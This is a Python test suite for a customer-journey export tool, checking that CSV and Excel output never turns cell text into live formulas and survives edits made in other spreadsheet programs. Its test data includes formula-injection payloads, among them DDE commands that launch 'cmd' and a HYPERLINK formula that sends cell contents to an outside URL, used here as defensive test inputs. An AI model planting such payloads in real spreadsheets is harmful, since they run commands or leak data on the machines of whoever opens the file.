"""Tables that go through colleagues' hands: nothing in them runs, and what comes back is what was meant."""

import csv
import io
import re

import pytest
from any_journey import decode, encode
from exchange_journeys import awkward, every
from openpyxl import load_workbook

from cxkit.cases import case
from cxkit.journey import Journey, read_journey

STARTS = tuple("=+-@\t\r＝＋－＠")
FORMULAS = [
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    '"=1+1',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    'a";=1+1;"',
    "a;;@SUM(1+1)",
    "a;'=1+1",
    "- a list\n- of two",
]


def loaded(text):
    """A journey with `text` in every place that takes one."""
    row = {
        "stage": "care",
        "touchpoint": text,
        "channel": "web",
        "owner": text,
        "quote": text,
        "mood": text,
        text: text,
    }
    persona = {"name": text, "situation": text}
    return Journey([row, {**row, "quote": ""}], title=text, scenario=text, source=text, persona=persona)


def fields(data, delimiter):
    """What a spreadsheet that splits at `delimiter` makes of a CSV file: a quote counts only at a cell's start."""
    text = data.decode("utf-8-sig")
    cells, cell, quoted, start = [], "", False, True
    for sign in text:
        if start and sign == '"':
            quoted, start = True, False
        elif quoted:
            if sign == '"':
                quoted = False
            else:
                cell += sign
        elif sign == delimiter or sign in "\r\n":
            cells.append(cell)
            cell, start = "", True
            continue
        else:
            cell += sign
        start = False
    return [*cells, cell]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_formulas_come_back_as_the_text_that_they_are(text, suffix):
    journey = loaded(text)
    assert decode(encode(journey, suffix), suffix) == journey


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_file_starts_a_formula(text):
    data = encode(loaded(text), ".csv")
    for cell in (cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row):
        assert not cell.startswith(STARTS), cell


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_nor_where_a_spreadsheet_splits_at_another_sign(text, delimiter):
    # half of Europe's spreadsheets split at semicolons, whatever the file was written for
    for cell in fields(encode(loaded(text), ".csv"), delimiter):
        assert not cell.startswith(STARTS), cell


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula(text):
    book = load_workbook(io.BytesIO(encode(loaded(text), ".xlsx")))
    assert book.sheetnames == ["journey"]
    assert not book.defined_names
    for cell in (cell for row in book["journey"].iter_rows() for cell in row):
        assert cell.data_type in ("s", "n"), cell.value
        assert cell.hyperlink is None
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix, "nor does it become one when somebody edits it"


@pytest.mark.parametrize("name", sorted(every()))
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_tables_say_the_same_as_the_journey(name, suffix):
    journey = every()[name]
    assert decode(encode(journey, suffix), suffix) == journey


def test_a_colleague_changes_a_workbook(tmp_path):
    journey = case("hmo_opt_out").journey
    path = tmp_path / "lucy.xlsx"
    journey.save(path)
    book = load_workbook(path)
    sheet = book["journey"]
    column = {cell.value: cell.column for cell in sheet[1]}
    sheet.cell(6, column["owner"]).value = "Front desk"
    sheet.cell(6, column["experienced"]).value = 4
    sheet.cell(3, column["quote"]).value = "=1+1"
    sheet.cell(3, column["quote"]).data_type = "s"
    sheet.insert_cols(1)  # an empty column, a note beside the table, another sheet
    sheet.cell(30, 40).value = None
    book.create_sheet("Notes")["A1"] = "ask Billing"
    book.save(path)
    back = read_journey(path)
    table = journey.table
    table.loc[4, ["owner", "experienced"]] = ["Front desk", 4]
    table.loc[1, "quote"] = "=1+1"
    assert back == journey.replace(table=table)


def rewritten(data, delimiter, mark, end):
    """The file as another program saves it: its own delimiter, line ends and byte order mark."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter, lineterminator=end).writerows(rows)
    return out.getvalue().encode("utf-8-sig" if mark else "utf-8")


@pytest.mark.parametrize(
    ("delimiter", "mark", "end"),
    [(",", False, "\n"), (";", True, "\r\n"), ("\t", False, "\n"), (",", True, "\r\n")],
    ids=["Google Sheets", "Excel in Europe", "pasted", "LibreOffice"],
)
@pytest.mark.parametrize(
    "journey", [case("hmo_opt_out").journey, case("dental_clinic_delays", "he").journey, awkward()]
)
def test_a_colleague_saves_a_csv_file_with_another_program(journey, delimiter, mark, end):
    data = rewritten(encode(journey, ".csv"), delimiter, mark, end)
    assert decode(data, ".csv") == journey


def test_a_colleague_types_a_formula_by_hand_and_it_is_read_as_text():
    text = 'stage,touchpoint,channel,owner\r\ncare,=1+1,web,"=HYPERLINK(""x"")"\r\n'
    back = decode(text.encode(), ".csv")
    assert back.table.loc[0, ["touchpoint", "owner"]].tolist() == ["=1+1", '=HYPERLINK("x")']
    assert not re.search(r"(^|,)\"?=", encode(back, ".csv").decode("utf-8-sig"), re.MULTILINE)
